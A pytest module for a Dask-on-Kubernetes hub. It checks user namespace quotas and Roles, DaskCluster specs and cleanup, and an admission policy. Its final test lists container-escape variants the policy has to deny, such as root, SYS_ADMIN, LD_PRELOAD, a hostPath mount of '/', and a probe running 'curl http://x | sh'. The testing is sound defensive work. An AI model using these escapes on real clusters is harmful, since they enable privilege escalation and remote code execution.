"""Dask on Kubernetes: the user namespace, its quota and Role, the DaskCluster a notebook
creates, and its deletion when the server stops.

The spawner and the notebook call both talk HTTP to a Kubernetes API emulator (kmock);
manifests with a schema are validated with kubernetes-validate (strict, 1.32); the
DaskCluster (a custom resource, no schema there) has its pod specs validated as pods.
No Dask operator runs here: the notebook call creates the DaskCluster, waits for an
operator that never acts, says so, and deletes it.
"""

import asyncio
import json
import posixpath
import threading

import kubernetes_validate
import pytest

from oggmhub.backends.kubernetes import dask_template
from oggmhub.backends.kubernetes import namespace as user_namespace
from oggmhub.backends.kubernetes.pod import check_user_container
from oggmhub.choice import resolve_choice
from oggmhub.session import dask as oggmhub_dask
from oggmhub.session import dask_kubernetes as dask_k8s
from oggmhub.session import dask_limits
from support.kube_harness import hub_start, wait_until
from support.kube_harness.oggmhub import declare, install_pod_policy, oggmhub_spawner

FAST = dict(k8s_api_request_timeout=2, k8s_api_request_retry_timeout=4, start_timeout=10)
GROUPS = "kubernetes.dask.org/v1/daskworkergroups"


def validate(manifest):
    kubernetes_validate.validate(manifest, "1.32", strict=True)


def as_pod(spec, name="dask"):
    return {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name}, "spec": spec}


async def setup_api(api, request):
    """conftest's api fixture: what this module's tests need declared before kubespawner connects."""
    # kr8s (dask-kubernetes' client) asks for /version/ with a slash; kmock answers /version
    api.emulator["get /version/"] << {"major": "1", "minor": "32", "gitVersion": "v1.32.0"}
    declare(api, GROUPS, "DaskWorkerGroup")
    declare(api, "v1/limitranges", "LimitRange")
    # what the hub's admins install once, with the chart
    await install_pod_policy(api, install=getattr(request, "param", True))


def hub_spawner(name="alice", servername="", **traits):
    traits = {"enable_user_namespaces": True, "user_namespace_template": "oggmhub-{username}",
              "dask_kubernetes": True, **FAST, **traits}
    return oggmhub_spawner(name, servername=servername, **traits)


spawn = hub_start  # what JupyterHub does to start a server


def container(pod, name="notebook"):
    return next(c for c in pod["spec"]["containers"] if c["name"] == name)


def session_environ(pod):
    """The user container's environment as the kubelet resolves it (downward API included)."""
    env = {}
    for var in container(pod)["env"]:
        if "value" in var:
            env[var["name"]] = var["value"]
        elif "fieldRef" in (var.get("valueFrom") or {}):
            obj = pod
            for part in var["valueFrom"]["fieldRef"]["fieldPath"].split("."):
                obj = obj[part]
            env[var["name"]] = obj
    return env


# --- pure: the namespace's objects ---------------------------------------------------------


def test_user_namespace_objects_validate_and_fence_the_user(catalog):
    choice = resolve_choice(catalog, {"profile": "oggm", "size": "small"})
    limits = dask_limits.limits_for(choice.environment, choice.size)
    objects = user_namespace.user_objects("oggmhub-alice", choice, limits, dask=True)
    assert [o["kind"] for o in objects] == ["LimitRange", "ResourceQuota", "ServiceAccount", "Role", "RoleBinding"]
    for obj in objects:
        validate(obj)
        assert obj["metadata"]["namespace"] == "oggmhub-alice"
    _, quota, account, role, binding = objects
    hard = quota["spec"]["hard"]
    # the server (2 CPU, 4Gi, dataset sidecar 0.5 CPU / 2Gi) + 2 schedulers (1 CPU / 2Gi each)
    # + the catalog's Dask limits (8 cores, 32Gi) + 8 worker sidecars (0.5 CPU / 1Gi each)
    assert hard["limits.cpu"] == hard["requests.cpu"] == f"{2000 + 500 + 2 * 1000 + 8000 + 8 * 500}m"
    gib = 1024**3
    assert hard["limits.memory"] == str(4 * gib + 2 * gib + 2 * 2 * gib + 32 * gib + 8 * gib)
    assert hard["pods"] == "11" and hard["count/daskclusters.kubernetes.dask.org"] == "2"
    assert hard["requests.nvidia.com/gpu"] == "0"  # no GPU for this user, even through the API
    assert account["automountServiceAccountToken"] is False
    # the Role reaches pods, services and the Dask resources of this namespace, and nothing else
    rules = {(tuple(r["apiGroups"]), tuple(r["resources"])): tuple(r["verbs"]) for r in role["rules"]}
    assert rules == {
        (("",), ("pods", "pods/log", "services", "events")): ("get", "list", "watch"),
        (("kubernetes.dask.org",), ("daskclusters", "daskworkergroups", "daskautoscalers", "daskjobs")):
            ("get", "list", "watch", "create", "update", "patch", "delete"),
    }
    assert binding["roleRef"]["name"] == role["metadata"]["name"]
    assert binding["subjects"] == [{"kind": "ServiceAccount", "name": "oggmhub-user", "namespace": "oggmhub-alice"}]


def test_without_dask_the_quota_holds_the_server_only_and_there_is_no_role(catalog):
    choice = resolve_choice(catalog, {"profile": "slicer", "gpu": "t4"})
    limits = dask_limits.limits_for(choice.environment, choice.size)
    objects = user_namespace.user_objects("oggmhub-bob", choice, limits, dask=False)
    assert [o["kind"] for o in objects] == ["LimitRange", "ResourceQuota"]
    hard = objects[1]["spec"]["hard"]
    assert hard["pods"] == "1" and hard["count/daskclusters.kubernetes.dask.org"] == "0"
    assert hard["requests.nvidia.com/gpu"] == "1"  # the server's own T4
    assert hard["limits.cpu"] == "2500m"  # medium (2 CPUs) + the mount sidecar of Slicer's dataset (IDC)


# --- pure: the DaskCluster ---------------------------------------------------------------------


def template_for(catalog, options, mounter="ghcr.io/oggmhub/mounter:0.1.0", gpu=None):
    choice = resolve_choice(catalog, options)
    env = {"OGGM_DOWNLOAD_CACHE": "/data/oggm-mirror", "OGGMHUB_ENVIRONMENT": choice.environment.name}
    return choice, dask_template.worker_template(
        image=choice.environment.image.ref, env=env, size=choice.size, datasets=choice.datasets,
        mounter_image=mounter, uid=1000, fs_gid=100,
        container_security_context={"runAsNonRoot": True, "allowPrivilegeEscalation": False,
                                    "capabilities": {"drop": ["ALL"]}},
        node_selector={"pool": "users"}, gpu=gpu, gpu_image=gpu and "ghcr.io/oggmhub/slicer-cuda:1",
    )


def test_cluster_spec_runs_the_notebook_image_with_the_datasets_owned_by_the_pod(catalog):
    choice, template = template_for(catalog, {"profile": "oggm", "size": "medium"})
    owner = dask_k8s.owner_reference("jupyter-alice", "uid-123")
    spec = dask_k8s.cluster_spec("oggmhub-abc", template, workers=3, owner=owner, idle_timeout=600)
    assert spec["kind"] == "DaskCluster" and spec["metadata"]["ownerReferences"] == [
        {"apiVersion": "v1", "kind": "Pod", "name": "jupyter-alice", "uid": "uid-123"}]
    assert spec["metadata"]["labels"][dask_k8s.OWNER_LABEL] == "jupyter-alice"
    assert spec["spec"]["idleTimeout"] == 600
    worker, scheduler = spec["spec"]["worker"], spec["spec"]["scheduler"]
    assert worker["replicas"] == 3
    for pod_spec in (worker["spec"], scheduler["spec"]):
        validate(as_pod(pod_spec))
        [main] = pod_spec["containers"]
        assert main["image"] == choice.environment.image.ref  # the notebook's own image
        assert pod_spec["automountServiceAccountToken"] is False
        check_user_container(as_pod(pod_spec), main["name"])  # uid 1000, no privileges
    [main] = worker["spec"]["containers"]
    assert main["resources"]["limits"] == {"cpu": "2000m", "memory": str(8 * 1024**3)}  # the session's size
    assert main["args"][:6] == ["dask", "worker", "--nthreads", "2", "--memory-limit", str(8 * 1024**3)]
    env = {e["name"]: e["value"] for e in main["env"]}
    assert env["OGGM_DOWNLOAD_CACHE"] == "/data/oggm-mirror"
    assert json.loads(env["OGGMHUB_DATASETS_JSON"])[0]["name"] == "oggm-mirror"
    # the datasets mounted on workers exactly as in the notebook: the same read-only sidecar
    [sidecar] = worker["spec"]["initContainers"]
    assert sidecar["name"] == "oggmhub-datasets" and sidecar["image"] == "ghcr.io/oggmhub/mounter:0.1.0"
    [mount] = main["volumeMounts"]
    assert (mount["name"], mount["mountPath"], mount["readOnly"]) == (worker["spec"]["volumes"][0]["name"], posixpath.dirname(catalog.datasets["oggm-mirror"].mount_path), True)
    assert "initContainers" not in scheduler["spec"]
    # the commands the image has (distributed installs ``dask``, not ``dask-scheduler``)
    assert scheduler["spec"]["containers"][0]["args"] == ["dask", "scheduler", "--host", "0.0.0.0"]
    assert worker["spec"]["nodeSelector"] == {"pool": "users"}


def test_gpu_worker_group_takes_the_variant_resources_nodes_and_cuda_image(catalog):
    slicer = catalog.environments["slicer"]
    _, template = template_for(catalog, {"profile": "slicer"}, gpu=slicer.gpus["t4"])
    owner = dask_k8s.owner_reference("jupyter-alice", "uid-123")
    group = dask_k8s.gpu_worker_group("oggmhub-abc", template, workers=1, owner=owner)
    assert group["kind"] == "DaskWorkerGroup" and group["spec"]["cluster"] == "oggmhub-abc"
    assert group["metadata"]["name"] == "oggmhub-abc-gpu" and group["metadata"]["ownerReferences"] == [owner]
    pod_spec = group["spec"]["worker"]["spec"]
    validate(as_pod(pod_spec))
    [main] = pod_spec["containers"]
    assert main["image"] == "ghcr.io/oggmhub/slicer-cuda:1"
    assert main["resources"]["limits"]["nvidia.com/gpu"] == "1"
    assert "--resources" in main["args"] and "GPU=1" in main["args"]
    assert pod_spec["nodeSelector"] == {"pool": "users", "cloud.google.com/gke-accelerator": "nvidia-tesla-t4"}
    assert {"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"} in pod_spec["tolerations"]
    # CPU workers of the same cluster stay off the GPU nodes
    cpu = dask_k8s.cluster_spec("oggmhub-abc", template, workers=1, owner=owner)["spec"]["worker"]["spec"]
    assert cpu["nodeSelector"] == {"pool": "users"} and "tolerations" not in cpu
    usage = dask_k8s.usage([dask_k8s.cluster_spec("oggmhub-abc", template, workers=2, owner=owner)], [group])
    assert (usage.clusters, usage.workers, usage.gpus) == (1, 3, 1)


# --- the spawner: namespace, quota, Role, token, template --------------------------------------


async def test_spawn_fences_the_user_namespace_and_hands_the_pod_a_dask_template(api, kubelet):
    spawner = hub_spawner("alice")
    await spawn(spawner, {"profile": "oggm", "size": "small"})
    ns = "oggmhub-alice"
    assert api.get("namespaces", None, ns)["metadata"]["labels"]["oggmhub.org/user-namespace"] == "true"
    [pod] = api.objects("pods", ns)
    validate(pod)
    for kind in ("resourcequotas", "v1/limitranges", "serviceaccounts", "roles", "rolebindings"):
        [obj] = api.objects(kind, ns)
        validate(obj)
    assert pod["spec"]["serviceAccountName"] == "oggmhub-user"
    assert pod["spec"]["automountServiceAccountToken"] is True  # the token, only with Dask on
    env = session_environ(pod)
    assert env["OGGMHUB_DASK_BACKEND"] == "kubernetes" and env["OGGMHUB_NAMESPACE"] == ns
    assert env["OGGMHUB_POD_UID"] == pod["metadata"]["uid"]
    assert env["DASK_DISTRIBUTED__DASHBOARD__LINK"] == "{JUPYTERHUB_SERVICE_PREFIX}proxy/{host}:{port}/status"
    template = json.loads(env[dask_k8s.ENV_TEMPLATE])
    assert template["image"] == container(pod)["image"]
    assert "JUPYTERHUB_API_TOKEN" not in template["env"]  # workers never get the user's hub token
    assert template["env"]["OGGM_DOWNLOAD_CACHE"] == "/data/oggm-mirror"
    assert json.loads(env[dask_limits.ENV_LIMITS])["workers"] == 8
    quota = api.objects("resourcequotas", ns)[0]["spec"]["hard"]
    assert quota["limits.cpu"] == f"{2000 + 500 + 2 * 1000 + 8000 + 8 * 500}m"  # the server: small's 2 CPUs
    await spawner.stop()

    # a later spawn at another size brings the existing quota up to it (409, then replace)
    await spawn(spawner, {"profile": "oggm", "size": "large"})
    quota = api.objects("resourcequotas", ns)[0]["spec"]["hard"]
    assert quota["limits.cpu"] == f"{4000 + 500 + 2 * 1000 + 16000 + 16 * 500}m"
    assert api.count("create", "resourcequotas", status=409) == 1
    await spawner.stop()


async def test_dask_workers_mount_with_the_configured_dataset_options(api, kubelet):
    """c.DatasetMounts.* reaches the mount sidecar of every Dask pod too ($OGGMHUB_MOUNT_OPTIONS)."""
    from traitlets.config import Config

    from oggmhub.mounts.options import from_env

    c = Config()
    c.DatasetMounts.block_size = 4 * 2**20
    c.DatasetMounts.listings_ttl = 30.0
    spawner = hub_spawner("alice", config=c)
    await spawn(spawner, {"profile": "oggm", "size": "small"})
    [pod] = api.objects("pods", "oggmhub-alice")
    template = json.loads(session_environ(pod)[dask_k8s.ENV_TEMPLATE])
    await spawner.stop()
    spec = dask_k8s.cluster_spec("c", template, workers=1, owner=dask_k8s.owner_reference("jupyter-alice", "uid"))
    for pod_spec in (pod["spec"], spec["spec"]["worker"]["spec"]):
        [sidecar] = [s for s in pod_spec["initContainers"] if s["name"] == "oggmhub-datasets"]
        options = from_env({e["name"]: e["value"] for e in sidecar["env"] if "value" in e})
        assert (options.block_size, options.listings_ttl) == (4 * 2**20, 30.0)
    assert admitted(as_pod(spec["spec"]["worker"]["spec"])) == []  # and the pod policy admits it


async def test_without_dask_no_token_no_role(api, kubelet):
    spawner = hub_spawner("bob", dask_kubernetes=False)
    await spawn(spawner, {"profile": "oggm"})
    [pod] = api.objects("pods", "oggmhub-bob")
    assert pod["spec"]["automountServiceAccountToken"] is False and not pod["spec"].get("serviceAccountName")
    assert api.objects("roles", "oggmhub-bob") == [] and len(api.objects("resourcequotas", "oggmhub-bob")) == 1
    env = session_environ(pod)
    assert dask_k8s.ENV_TEMPLATE not in env and env["DASK_DISTRIBUTED__DASHBOARD__LINK"].endswith("proxy/{port}/status")
    await spawner.stop()


async def test_dask_without_user_namespaces_is_refused_before_anything_is_created(api, kubelet):
    spawner = hub_spawner("carol", enable_user_namespaces=False)
    with pytest.raises(Exception, match="dask_kubernetes needs enable_user_namespaces"):
        await spawn(spawner, {"profile": "oggm"})
    assert [r for r in api.requests if r.method in ("POST", "PUT", "PATCH")] == []


@pytest.mark.parametrize("api", [False], indirect=True, ids=["no policy installed"])
async def test_dask_without_the_pod_policy_is_refused_before_anything_is_created(api, kubelet):
    with pytest.raises(Exception, match=r"the admission policy that keeps their pods unprivileged "
                                        r"\(oggmhub-user-pods\) is not installed"):
        await spawn(hub_spawner("dave"), {"profile": "oggm"})
    assert [r for r in api.requests if r.method in ("POST", "PUT", "PATCH")] == []
    # with Dask off, no policy is needed
    spawner = hub_spawner("dave", dask_kubernetes=False)
    await spawn(spawner, {"profile": "oggm"})
    await spawner.stop()


# --- the notebook call against the emulated API --------------------------------------------------


async def started_session(api, name="alice", options=None):
    spawner = hub_spawner(name)
    await spawn(spawner, options or {"profile": "oggm", "size": "small"})
    [pod] = api.objects("pods", f"oggmhub-{name}")
    return spawner, pod, session_environ(pod)


async def in_thread(func, *args, **kwargs):
    """Run a blocking notebook call off the event loop (the emulator serves on it)."""
    result = {}

    def run():
        try:
            result["value"] = func(*args, **kwargs)
        except BaseException as e:  # noqa: BLE001 (handed back to the test)
            result["error"] = e

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    while thread.is_alive():
        await asyncio.sleep(0.05)
    return result


async def test_the_call_creates_the_daskcluster_in_the_user_namespace_and_cleans_up(api, kubelet):
    spawner, pod, env = await started_session(api)
    ns = "oggmhub-alice"
    call = asyncio.ensure_future(in_thread(oggmhub_dask.new_cluster, workers=2, timeout=3, environ=env))
    await wait_until(lambda: api.objects("daskclusters", ns), timeout=10)
    [created] = api.objects("daskclusters", ns)
    assert created["metadata"]["ownerReferences"] == [
        {"apiVersion": "v1", "kind": "Pod", "name": pod["metadata"]["name"], "uid": pod["metadata"]["uid"]}]
    worker = created["spec"]["worker"]
    assert worker["replicas"] == 2
    assert worker["spec"]["containers"][0]["image"] == container(pod)["image"]  # the notebook's image
    assert created["spec"]["idleTimeout"] == 1800  # the catalog's idle_timeout
    validate(as_pod(worker["spec"]))
    # no operator here: the call says so, and leaves nothing behind
    result = await call
    error = result.get("error")
    assert isinstance(error, oggmhub_dask.DaskStartError), result
    assert "is the Dask Operator running?" in str(error) and "Nothing was left behind" in str(error)
    assert api.objects("daskclusters", ns) == []
    await spawner.stop()


@pytest.mark.parametrize("kwargs, limit, message", [
    ({"workers": 9, "worker_cores": 0.5, "worker_memory": "1Gi"}, "workers",
     "9 workers is over your limit of 8 workers (workers, set by the catalog's environments.oggm.dask.workers)"),
    ({"workers": 3, "worker_cores": 3}, "cores", "3 workers x 3 cores = 9 cores is over your limit of 8 cores"),
    ({"workers": 1, "gpu_workers": 1}, "gpus", "(gpus, set by this environment, which has no GPU variant)"),
])
async def test_requests_over_a_limit_are_refused_and_nothing_is_created(api, kubelet, kwargs, limit, message):
    spawner, pod, env = await started_session(api)
    api.clear_requests()
    result = await in_thread(oggmhub_dask.new_cluster, environ=env, **kwargs)
    error = result.get("error")
    assert isinstance(error, dask_limits.DaskLimitError), result
    assert error.limit == limit and message in str(error) and "nothing was started" in str(error)
    assert [r for r in api.requests if r.method in ("POST", "PUT", "PATCH", "DELETE")] == []
    await spawner.stop()


async def test_other_clusters_count_towards_the_limits(api, kubelet):
    spawner, pod, env = await started_session(api)
    template = json.loads(env[dask_k8s.ENV_TEMPLATE])
    owner = dask_k8s.owner_reference(pod["metadata"]["name"], pod["metadata"]["uid"])
    for name in ("first", "second"):  # what two earlier calls left running
        await api.create("daskclusters", dask_k8s.cluster_spec(name, template, workers=1, owner=owner), "oggmhub-alice")
    result = await in_thread(oggmhub_dask.new_cluster, workers=1, environ=env)
    error = result.get("error")
    assert isinstance(error, dask_limits.DaskLimitError) and error.limit == "clusters", result
    assert "over your limit of 2 clusters, as your other clusters already hold 2 clusters" in str(error)
    await spawner.stop()


async def test_stopping_the_server_deletes_its_dask_clusters(api, kubelet):
    alice, pod, env = await started_session(api)
    other = hub_spawner("alice", servername="second")  # alice's second, named server
    await spawn(other, {"profile": "oggm"})
    ns = "oggmhub-alice"
    pods = {p["metadata"]["name"]: p for p in api.objects("pods", ns)}
    assert set(pods) == {alice.pod_name, other.pod_name}
    template = json.loads(env[dask_k8s.ENV_TEMPLATE])

    def owner(name):
        return dask_k8s.owner_reference(name, pods[name]["metadata"]["uid"])

    mine = dask_k8s.cluster_spec("mine", template, workers=1, owner=owner(pod["metadata"]["name"]))
    await api.create("daskclusters", mine, ns)
    await api.create(GROUPS, dask_k8s.gpu_worker_group(
        "mine", {**template, "gpu": {"variant": "t4", "resource": "nvidia.com/gpu", "count": 1, "image": "x:1",
                                     "node_selector": {}, "tolerations": []}},
        workers=1, owner=owner(pod["metadata"]["name"])), ns)
    await api.create("daskclusters", dask_k8s.cluster_spec("theirs", template, workers=1,
                                                           owner=owner(other.pod_name)), ns)
    orphan = dask_k8s.cluster_spec("by-hand", template, workers=1, owner=owner(pod["metadata"]["name"]))
    del orphan["metadata"]["ownerReferences"]  # made through the API, owned by nobody
    await api.create("daskclusters", orphan, ns)

    await alice.stop()
    assert api.names("daskclusters", ns) == ["theirs"]  # the other server's cluster stays
    assert api.names(GROUPS, ns) == []
    await other.stop()
    assert api.objects("daskclusters", ns) == []


# --- the admission policy that keeps user namespaces unprivileged -------------------------------


MOUNTER = "ghcr.io/oggmhub/mounter:0.1.0"


def admitted(pod, objects=None):
    """Evaluate the policy's CEL validations (cel-python) on a pod: the failed messages."""
    import celpy

    policy = (objects or user_namespace.pod_policy(MOUNTER))[0]["spec"]
    env = celpy.Environment()
    activation = {"object": celpy.json_to_cel(pod)}
    variables = {}
    for var in policy["variables"]:
        value = env.program(env.compile(var["expression"])).evaluate(
            {**activation, "variables": celpy.celtypes.MapType(variables)})
        variables[celpy.celtypes.StringType(var["name"])] = value
    activation["variables"] = celpy.celtypes.MapType(variables)
    failed = []
    for rule in policy["validations"]:
        result = env.program(env.compile(rule["expression"])).evaluate(activation)
        if result is not True and result != celpy.celtypes.BoolType(True):
            failed.append(rule["message"] if isinstance(result, celpy.celtypes.BoolType) else f"error: {result}")
    return failed


def test_the_pod_policy_validates_and_is_bound_to_user_namespaces():
    policy, binding = user_namespace.pod_policy(MOUNTER)
    validate(policy)
    validate(binding)
    assert binding["spec"]["matchResources"]["namespaceSelector"]["matchLabels"] == user_namespace.NAMESPACE_LABELS
    assert binding["spec"]["validationActions"] == ["Deny"] and policy["spec"]["failurePolicy"] == "Fail"


async def test_the_pod_policy_admits_oggmhubs_own_pods_and_refuses_escapes(api, kubelet, catalog):
    spawner = hub_spawner("alice", dataset_mounter_image=MOUNTER)
    await spawn(spawner, {"profile": "oggm", "size": "small"})
    [notebook_pod] = api.objects("pods", "oggmhub-alice")
    template = json.loads(session_environ(notebook_pod)[dask_k8s.ENV_TEMPLATE])
    await spawner.stop()
    assert notebook_pod["spec"]["initContainers"][0]["securityContext"]["privileged"] is True
    assert admitted(notebook_pod) == []  # the notebook, with its privileged dataset sidecar
    owner = dask_k8s.owner_reference("jupyter-alice", "uid")
    spec = dask_k8s.cluster_spec("c", template, workers=1, owner=owner)["spec"]
    assert admitted(as_pod(spec["worker"]["spec"])) == []  # Dask workers, with the sidecar
    assert admitted(as_pod(spec["scheduler"]["spec"])) == []

    import copy

    def variant(change):
        pod = copy.deepcopy(as_pod(spec["worker"]["spec"]))
        change(pod["spec"], pod["spec"]["containers"][0], pod["spec"]["initContainers"][0])
        return admitted(pod)

    unprivileged = "every container runs as non-root, unprivileged"
    escapes = {
        "a privileged worker": lambda s, c, m: c["securityContext"].update(privileged=True),
        "escalation allowed": lambda s, c, m: c["securityContext"].pop("allowPrivilegeEscalation"),
        "root": lambda s, c, m: c["securityContext"].update(runAsUser=0),
        "no runAsNonRoot": lambda s, c, m: c["securityContext"].pop("runAsNonRoot"),
        "an added capability": lambda s, c, m: c["securityContext"].update(capabilities={"add": ["SYS_ADMIN"]}),
        "the sidecar, another image": lambda s, c, m: m.update(image="attacker/root:1"),
        "the sidecar, extra args": lambda s, c, m: m.update(args=["--catalog", "/tmp/x"]),
        "the sidecar, a shell": lambda s, c, m: m.update(command=["sh", "-c", "id"]),
        "the sidecar, LD_PRELOAD": lambda s, c, m: m["env"].append({"name": "LD_PRELOAD", "value": "/data/x.so"}),
        "the sidecar, a system mount path": lambda s, c, m: m["env"][0].update(
            value='[{"name":"x","source":"gs://b","mount_path":"/usr/bin"}]'),
        "the sidecar, an escaped mount path": lambda s, c, m: m["env"][0].update(
            value='[{"name":"x","source":"gs://b","mount_path":"\\/usr/bin"}]'),
        "the sidecar, an escaped key": lambda s, c, m: m["env"][0].update(
            value='[{"name":"x","source":"gs://b","mount\\u005fpath":"/usr/bin"}]'),
        "the sidecar over /usr/local": lambda s, c, m: m["volumeMounts"].append(
            {"name": m["volumeMounts"][0]["name"], "mountPath": "/usr/local/bin"}),
        "the sidecar, a probe that runs code": lambda s, c, m: m.update(
            livenessProbe={"exec": {"command": ["sh", "-c", "curl http://x | sh"]}}),
        "the sidecar, a lifecycle hook": lambda s, c, m: m.update(
            lifecycle={"postStart": {"exec": {"command": ["sh", "-c", "id"]}}}),
    }
    for what, change in escapes.items():
        failed = variant(change)
        assert any(unprivileged in f for f in failed), f"{what} was admitted: {failed}"
    assert variant(lambda s, c, m: s["volumes"].append({"name": "host", "hostPath": {"path": "/"}})) == [
        "hostPath volumes are not allowed in a user namespace"]
    assert variant(lambda s, c, m: s.update(hostPID=True)) == [
        "host network, PID and IPC namespaces are not allowed in a user namespace"]
    assert variant(lambda s, c, m: s.update(ephemeralContainers=[{"name": "debug", "image": "busybox"}])) == [
        "ephemeral containers in a user namespace run unprivileged, as non-root"]
